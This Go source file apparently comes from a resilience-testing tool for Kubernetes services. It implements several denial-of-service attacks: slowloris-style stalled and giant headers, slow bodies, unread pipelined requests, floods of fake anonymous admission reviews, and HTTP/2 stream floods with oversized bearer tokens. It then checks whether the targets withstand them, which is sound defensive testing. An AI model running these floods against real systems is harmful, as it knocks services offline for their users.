package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/url"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// exhaustions are attacks that many workers repeat on a server to which any pod may connect.
var exhaustions = map[string]func(ctx context.Context, to *url.URL, keep func(io.Closer)) error{
	"stalled": stalledHeads,
	"idle":    idle,
	"heads":   giantHeads,
	"bodies":  slowBodies,
	"unread":  unreadAnswers,
	"reviews": anonymousReviews,
	"streams": anonymousStreams,
}

// exhaust attacks all the servers. Their other clients show whether they withstood it.
func exhaust(ctx context.Context, kind string, targets []string) (verdict, error) {
	attack := exhaustions[kind]
	if attack == nil {
		return verdict{}, fmt.Errorf("cannot exhaust by %q", kind)
	}
	var servers []*url.URL
	for _, t := range targets {
		u, err := url.Parse(t)
		if err != nil {
			return verdict{}, fmt.Errorf("reading a target: %w", err)
		}
		servers = append(servers, u)
	}
	return repeat(ctx, func(ctx context.Context, worker int, keep func(io.Closer)) error {
		return attack(ctx, servers[worker%len(servers)], keep)
	})
}

// open connects to a server, by TLS if its scheme is https.
func open(ctx context.Context, to *url.URL, protocol string) (net.Conn, error) {
	conn, err := (&net.Dialer{Timeout: patience}).DialContext(ctx, "tcp", to.Host)
	if err != nil {
		return nil, err
	}
	_ = conn.SetDeadline(time.Now().Add(floodTime))
	if to.Scheme == "http" {
		return conn, nil
	}
	secure := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}}) // it authenticates nobody
	if err := secure.HandshakeContext(ctx); err != nil {
		conn.Close()
		return nil, err
	}
	return secure, nil
}

// write opens a connection, which stays open, and writes to it.
func write(ctx context.Context, to *url.URL, keep func(io.Closer), text string) error {
	conn, err := open(ctx, to, "http/1.1")
	if err != nil {
		return err
	}
	keep(conn)
	_, err = io.WriteString(conn, text)
	return err
}

// idle opens connections, without TLS, and sends nothing.
func idle(ctx context.Context, to *url.URL, keep func(io.Closer)) error {
	conn, err := (&net.Dialer{Timeout: patience}).DialContext(ctx, "tcp", to.Host)
	if err == nil {
		keep(conn)
	}
	return err
}

// stalledHeads are requests that never end.
func stalledHeads(ctx context.Context, to *url.URL, keep func(io.Closer)) error {
	return write(ctx, to, keep, "GET "+to.Path+" HTTP/1.1\r\nHost: x\r\nX-Slow: "+strings.Repeat("x", 8<<10))
}

// giantHeads are request heads as large as net/http accepts by default, which do not end.
func giantHeads(ctx context.Context, to *url.URL, keep func(io.Closer)) error {
	return write(ctx, to, keep, "GET "+to.Path+" HTTP/1.1\r\nHost: x\r\nX-Large: "+strings.Repeat("x", 1<<20))
}

// slowBodies are requests that announce more bytes than they send.
func slowBodies(ctx context.Context, to *url.URL, keep func(io.Closer)) error {
	return write(ctx, to, keep, "POST "+to.Path+" HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 7000000\r\n\r\n"+strings.Repeat(" ", 1<<20))
}

// unreadAnswers requests many answers on a connection and reads none.
func unreadAnswers(ctx context.Context, to *url.URL, keep func(io.Closer)) error {
	return write(ctx, to, keep, strings.Repeat("GET "+to.Path+" HTTP/1.1\r\nHost: x\r\n\r\n", 1000))
}

// anonymousReviews are admission reviews of pods that do not exist.
func anonymousReviews(ctx context.Context, to *url.URL, _ func(io.Closer)) error {
	conn, err := open(ctx, to, "http/1.1")
	if err != nil {
		return err
	}
	defer conn.Close()
	review := `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"x","kind":{"version":"v1","kind":"Pod"},` +
		`"resource":{"version":"v1","resource":"pods"},"namespace":"kube-system","operation":"CREATE","userInfo":{"username":"system:anonymous"},` +
		`"object":{"apiVersion":"v1","kind":"Pod","metadata":{"name":"x","namespace":"kube-system","labels":{"ctrlmesh.kusionstack.io/enable-proxy":"true"}},` +
		`"spec":{"containers":[{"name":"x","image":"x"}]}}}}`
	const each = 20
	request := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", to.Path, len(review), review)
	if _, err := io.WriteString(conn, strings.Repeat(request, each)); err != nil {
		return err
	}
	_, err = io.CopyN(io.Discard, conn, each*64)
	return err
}

// anonymousStreams are an agent's streams, without a token or with an invalid one, as many as
// a connection allows.
func anonymousStreams(ctx context.Context, to *url.URL, keep func(io.Closer)) error {
	conn, err := open(ctx, to, "h2")
	if err != nil {
		return err
	}
	keep(conn)
	f, err := framerOn(conn)
	if err != nil {
		return err
	}
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for i := range uint32(100) {
		block.Reset()
		fields := []hpack.HeaderField{
			{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: to.Host}, {Name: ":path", Value: to.Path},
			{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
		}
		if i%2 == 1 {
			fields = append(fields, hpack.HeaderField{Name: "authorization", Value: "Bearer " + strings.Repeat("x", 4<<10)})
		}
		for _, field := range fields {
			if err := e.WriteField(field); err != nil {
				return err
			}
		}
		id := 2*i + 1
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}); err != nil {
			return err
		}
		// A message is announced, and its beginning sent.
		if err := f.WriteData(id, false, append([]byte{0, 0, 0x3f, 0xff, 0xff}, make([]byte, 8<<10)...)); err != nil {
			return err
		}
	}
	return nil
}
